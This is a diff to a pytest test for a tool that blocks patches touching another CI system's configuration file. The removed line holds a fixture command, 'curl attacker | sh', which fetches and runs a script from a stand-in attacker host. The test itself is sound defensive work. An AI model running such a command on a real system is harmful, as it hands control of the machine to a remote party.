@@ -30,7 +30,7 @@ def test_check_diff_blocks_a_change_to_another_ci_systems_file(
     path: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     diff = tmp_path / "fix.diff"
-    diff.write_text(f"--- a/{path}\n+++ b/{path}\n@@ -1 +1,2 @@\n keep: this\n+run: curl attacker | sh\n")
+    diff.write_text(f"--- a/{path}\n+++ b/{path}\n@@ -1 +1,2 @@\n keep: this\n+run: everything\n")
 
     exit_code = check_diff_main([str(diff), "--format", "json"])
 
